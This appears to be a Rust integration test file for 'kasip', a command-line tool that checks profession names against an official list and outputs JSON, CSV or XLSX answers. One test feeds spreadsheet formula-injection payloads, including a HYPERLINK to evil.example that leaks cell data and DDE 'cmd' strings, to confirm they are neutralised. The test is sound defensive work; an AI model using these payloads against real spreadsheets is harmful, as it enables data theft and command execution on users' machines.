//! The command line as offices and the scorer use it: `kasip match --json` (one answer a line, in
//! order, whatever the input), `--csv`, `kasip list --json`, and a bad data directory.

use serde_json::Value;
use std::io::Write;
use std::process::{Command, Stdio};

/// The binary started with every stream piped (and the embedded list).
fn spawn(args: &[&str]) -> std::process::Child {
    Command::new(env!("CARGO_BIN_EXE_kasip"))
        .args(args)
        .env_remove("KASIP_DATA")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn kasip(args: &[&str], stdin: &[u8]) -> (i32, String, String) {
    let mut child = spawn(args);
    child.stdin.take().unwrap().write_all(stdin).unwrap();
    let out = child.wait_with_output().unwrap();
    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn match_json_answers_each_line_in_order() {
    let mut input = "нейрохирург\n\nврач\r\nбариста\n".as_bytes().to_vec();
    input.extend_from_slice(b"\xff\xfe broken utf8\n");
    input.extend_from_slice("2512\n".as_bytes());
    let (code, out, _) = kasip(&["match", "--json"], &input);
    assert_eq!(code, 0);
    let lines: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 6, "one answer a line, empty and broken lines included");
    assert_eq!(lines[0]["query"], "нейрохирург");
    assert_eq!(lines[0]["verdict"], "listed");
    assert_eq!(lines[0]["code"], "2217-4-001");
    assert_eq!(lines[1]["verdict"], "not_listed");
    assert_eq!(lines[2]["query"], "врач");
    assert_eq!(lines[2]["verdict"], "unsure");
    assert!(lines[2]["code"].is_null());
    assert!(lines[2]["candidates"].as_array().unwrap().len() >= 2);
    assert!(lines[2]["candidates"][0]["name"].as_str().unwrap().starts_with("Врач"));
    assert!(lines[2]["candidates"][0]["score"].is_number());
    assert_eq!(lines[3]["verdict"], "not_listed");
    assert_eq!(lines[5]["verdict"], "unsure");
}

#[test]
fn match_arguments_and_languages() {
    let (_, out, _) = kasip(&["match", "--json", "--lang", "en", "врач", "педиатр"], b"");
    let v: Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(v["code"], "2215-1-001");
    assert_eq!(v["candidates"][0]["name"], "Paediatrician");
    let (_, out, _) = kasip(&["match", "--lang", "kk", "нейрохирург"], b"");
    assert!(out.contains("Кәсіп тізбеде бар") && out.contains("2217-4-001"), "{out}");
    let (code, _, err) = kasip(&["match", "--lang", "de", "x"], b"");
    assert_eq!(code, 2, "an argument error");
    assert!(err.contains("ru, kk, en"), "{err}");
}

fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

#[test]
fn match_csv_keeps_the_consultants_columns_and_skips_the_header() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("clients.csv");
    std::fs::write(&f, "query,client\n\"архитектор, банк\",Иванов\nнейрохирург,Петров\nврач,Ли\n").unwrap();
    let (code, out, _) = kasip(&["match", "--csv", "--file", f.to_str().unwrap()], b"");
    assert_eq!(code, 0);
    let rows = csv_rows(&out);
    assert_eq!(rows[0], ["query", "client", "verdict", "verdict_text", "code", "name", "field", "candidates"]);
    assert_eq!(rows.len(), 4, "the header is not answered as a query: {out}");
    assert_eq!(rows[1][..3], ["архитектор, банк", "Иванов", "unsure"]);
    assert_eq!(rows[2][..7], ["нейрохирург", "Петров", "listed", "в перечне", "2217-4-001", "Врач-нейрохирург", "Здравоохранение"]);
    // An unsure row names no single profession: the options are in their own column.
    assert_eq!(rows[3][..7], ["врач", "Ли", "unsure", "уточнить", "", "", ""]);
    assert!(rows[3][7].contains("Врач-педиатр (2215-1-001)"), "{:?}", rows[3]);
    let (_, out, _) = kasip(&["match", "--json", "--file", f.to_str().unwrap()], b"");
    let queries: Vec<String> = out.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()["query"].as_str().unwrap().to_string()).collect();
    assert_eq!(queries, ["архитектор, банк", "нейрохирург", "врач"]);
}

#[test]
fn match_csv_neutralises_formulas() {
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n+1+2\n-2+3+cmd|' /C calc'!A0\n@SUM(1+1)*cmd|' /C calc'!A0\n\t=1+1\n";
    let (code, out, _) = kasip(&["match", "--csv"], evil.as_bytes());
    assert_eq!(code, 0);
    let rows = csv_rows(&out);
    assert_eq!(rows.len(), 6, "{out}");
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "live cell {cell:?}");
    }
    assert!(rows[1][0].starts_with("'=HYPERLINK"), "{:?}", rows[1]);
}

#[test]
fn match_xlsx_in_and_out() {
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("in.csv");
    std::fs::write(&csv, "профессия;клиент\nнейрохирург;Иванов\n").unwrap();
    let xlsx = dir.path().join("answers.xlsx");
    let (code, _, err) = kasip(&["match", "--file", csv.to_str().unwrap(), "--out", xlsx.to_str().unwrap(), "--lang", "en"], b"");
    assert_eq!(code, 0, "{err}");
    assert!(std::fs::read(&xlsx).unwrap().starts_with(b"PK"), "a zip, as .xlsx files are");
    // The answer workbook read back as a list: its header is found, the client column kept.
    let (code, out, err) = kasip(&["match", "--csv", "--file", xlsx.to_str().unwrap()], b"");
    assert_eq!(code, 0, "{err}");
    let rows = csv_rows(&out);
    assert_eq!(rows[0][..3], ["профессия", "клиент", "verdict"]);
    assert_eq!(rows[1][..3], ["нейрохирург", "Иванов", "listed"]);
}

#[test]
fn report_on_a_missing_database_says_so_and_creates_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("none.db");
    let (code, out, err) = kasip(&["report", "--db", db.to_str().unwrap()], b"");
    assert_eq!(code, 1, "{out}");
    assert!(err.contains("no database") && err.contains(db.to_str().unwrap()), "{err}");
    assert!(!db.exists());
    let (code, _, err) = kasip(&["report", "--db", "/nonexistent-dir/x.db"], b"");
    assert_eq!(code, 1);
    assert_eq!(err.lines().count(), 1, "one sentence: {err}");
}

#[test]
fn errors_say_each_thing_once() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("not-a-db");
    std::fs::create_dir(&db).unwrap();
    // A directory where the database should be: opening it fails inside SQLite.
    let (code, _, err) = kasip(&["report", "--db", dir.path().to_str().unwrap()], b"");
    assert_eq!(code, 1);
    let line = err.trim();
    let clauses: Vec<&str> = line.split(": ").collect();
    let mut seen = std::collections::HashSet::new();
    assert!(clauses.iter().all(|c| seen.insert(c.to_lowercase())), "a clause repeated: {line}");
    let (code, _, err) = kasip(&["match", "--file", "/nonexistent/list.csv"], b"");
    assert_eq!(code, 1);
    assert_eq!(err.trim(), "kasip: cannot read /nonexistent/list.csv: no such file");
}

#[test]
fn help_documents_every_argument() {
    let (code, out, _) = kasip(&["match", "--help"], b"");
    assert_eq!(code, 0);
    for want in ["ru", "kk", "en", "one query", "one a line", "[QUERY]..."] {
        assert!(out.contains(want), "match --help lacks {want:?}: {out}");
    }
    // Every argument line has a description after it.
    for (cmd, args) in [
        ("match", &["--json", "--csv", "--lang", "--file", "--out"][..]),
        ("list", &["--json", "--lang", "--field"]),
        ("report", &["--since", "--top", "--db"]),
    ] {
        let (_, out, _) = kasip(&[cmd, "--help"], b"");
        for a in args {
            let line =
                out.lines().find(|l| l.trim_start().starts_with(a) || l.contains(&format!(", {a}"))).unwrap_or_else(|| panic!("{cmd} --help has no {a}"));
            let described = line.split("  ").filter(|p| !p.trim().is_empty()).count() > 1
                || out.lines().skip_while(|l| *l != line).nth(1).is_some_and(|n| n.starts_with("          "));
            assert!(described, "{cmd} {a} has no help text: {line:?}");
        }
    }
    let (code, _, err) = kasip(&["list", "--field", "bogus"], b"");
    assert_eq!(code, 2, "an argument error exits 2 like clap's own");
    assert!(err.contains("healthcare"), "{err}");
}

#[test]
fn the_cli_cuts_no_names_or_codes_and_fields_read_in_the_nominative() {
    let (_, out, _) = kasip(&["match", "--lang", "en", "инженер"], b"");
    assert!(!out.contains('…'), "{out}");
    assert!(out.contains("[2145-9-006 · Research engineer in organic substances technology]"), "{out}");
    let (_, out, _) = kasip(&["match", "нейрохирург"], b"");
    assert!(out.contains("Область образования: Здравоохранение") && !out.contains("Здравоохранения"), "{out}");
    let (_, out, _) = kasip(&["list"], b"");
    assert!(out.contains("Креативные индустрии") && !out.contains("В отрасли креативных индустрий"), "{out}");
}

#[test]
fn list_json_has_all_51_grouped_by_field() {
    let (code, out, _) = kasip(&["list", "--json"], b"");
    assert_eq!(code, 0);
    let groups: Vec<Value> = serde_json::from_str(&out).unwrap();
    assert_eq!(groups.len(), 6);
    let codes: std::collections::BTreeSet<&str> =
        groups.iter().flat_map(|g| g["professions"].as_array().unwrap().iter().map(|p| p["code"].as_str().unwrap())).collect();
    assert_eq!(codes.len(), 51);
    let (_, out, _) = kasip(&["list", "--field", "creative", "--lang", "en"], b"");
    assert!(out.contains("Creative industries") && out.contains("Video editor") && !out.contains("Neurosurgeon"));
    let (code, _, err) = kasip(&["list", "--field", "nope"], b"");
    assert_eq!(code, 2);
    assert!(err.contains("healthcare"), "{err}");
}

#[test]
fn a_bad_data_directory_is_refused_with_the_entry_named() {
    let dir = tempfile::tempdir().unwrap();
    let good = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/data/professions.toml")).unwrap();
    std::fs::write(dir.path().join("professions.toml"), good.replacen("code = \"2166-2\"", "code = \"2166-X\"", 1)).unwrap();
    let (code, _, err) = kasip(&["--data", dir.path().to_str().unwrap(), "list"], b"");
    assert_eq!(code, 1);
    assert!(err.contains("2166-X") && err.contains("bad code"), "{err}");
    // A good copy is used instead of the built-in list: an amendment is a data change.
    std::fs::write(dir.path().join("professions.toml"), good.replace("Видеомонтажер\"", "Видеомонтажер (изм.)\"")).unwrap();
    let (code, out, _) = kasip(&["--data", dir.path().to_str().unwrap(), "list", "--field", "creative"], b"");
    assert_eq!(code, 0);
    assert!(out.contains("Видеомонтажер (изм.)"), "{out}");
}

#[test]
fn report_reads_the_query_log() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("k.db");
    let store = kasip::store::Store::open(&db).unwrap();
    let now = kasip::store::now();
    for q in ["хирург", "хирург", "кардиолог"] {
        store.log_query(now, kasip::Lang::Ru, "not_listed", None, q).unwrap();
    }
    store.log_query(now, kasip::Lang::Ru, "listed", Some("2217-4-001"), "нейрохирург").unwrap();
    drop(store);
    let (code, out, _) = kasip(&["report", "--db", db.to_str().unwrap(), "--since", "7"], b"");
    assert_eq!(code, 0);
    assert!(out.contains("queries in the last 7 days: 4"), "{out}");
    assert!(out.contains("2  хирург"), "{out}");
    assert!(out.contains("2217-4-001"), "{out}");
}

/// `kasip match < list | head`: the reader goes away early. The output ends there, quietly and
/// with success — no panic, no error message.
#[test]
fn a_reader_that_goes_away_is_no_error() {
    for args in [&["match", "--json"][..], &["list"][..], &["match", "--explain", "врач-педиатр"][..]] {
        let mut child = spawn(args);
        drop(child.stdout.take());
        // (The writer may see the closed pipe before all of stdin is read: not an error either.)
        let _ = child.stdin.take().unwrap().write_all("педиатр\n".repeat(20_000).as_bytes());
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{args:?}: {:?} {err}", out.status);
        assert!(!err.contains("panicked") && !err.contains("Broken pipe"), "{args:?}: {err}");
    }
}
